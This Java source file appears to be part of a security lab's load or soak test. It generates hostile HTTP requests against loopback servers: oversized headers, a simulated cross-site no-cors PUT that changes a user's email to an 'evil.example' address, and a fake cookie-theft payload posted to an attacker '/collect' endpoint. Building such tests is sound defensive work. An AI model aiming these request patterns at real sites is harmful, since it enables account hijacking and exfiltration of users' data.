package lab.runner.bench;

import java.net.URI;
import java.net.http.HttpRequest;

/** What the soak sends: what a stranger's tab could send the lab's servers, aimed at loopback only. */
final class HostileTraffic {

    private static final String BIG = "x".repeat(6_000);
    private static final String LOOT =
            "{\"scenario\":\"cookie-theft\",\"data\":{\"username\":\"alice\",\"blob\":\"" + "s".repeat(60_000) + "\"}}";

    private HostileTraffic() {}

    /** The {@code i}th hostile request: the three kinds in turn. */
    static HttpRequest request(int victimPort, int i) {
        String victim = "http://127.0.0.1:" + victimPort;
        return switch (i % 3) {
            // As large as the server lets a request be: near 8 KB of headers.
            case 0 ->
                HttpRequest.newBuilder(URI.create(victim + "/api/me"))
                        .header("User-Agent", BIG)
                        .header("Referer", "http://evil.localhost/" + BIG.substring(0, 800))
                        .header("Origin", "http://" + "o".repeat(200) + i + ".localhost")
                        .header("Cookie", "a" + i + "=1; b" + i + "=2; c" + i + "=3")
                        .build();
            // A name nobody has, new every time.
            case 1 ->
                HttpRequest.newBuilder(URI.create(victim + "/profile/stranger-" + i + "-" + "n".repeat(200)))
                        .build();
            // What a no-cors fetch from another tab sends: a simple cross-site write.
            default ->
                HttpRequest.newBuilder(URI.create(victim + "/api/settings/email"))
                        .header("Content-Type", "text/plain")
                        .header("Origin", "http://evil.localhost")
                        .header("Sec-Fetch-Site", "cross-site")
                        .header("Sec-Fetch-Mode", "no-cors")
                        .PUT(HttpRequest.BodyPublishers.ofString("{\"email\":\"mallory@evil.example\"}"))
                        .build();
        };
    }

    /** A large haul posted as text/plain, as any page can. */
    static HttpRequest lootPost(int attackerPort) {
        return HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + attackerPort + "/collect"))
                .header("Content-Type", "text/plain")
                .POST(HttpRequest.BodyPublishers.ofString(LOOT))
                .build();
    }
}
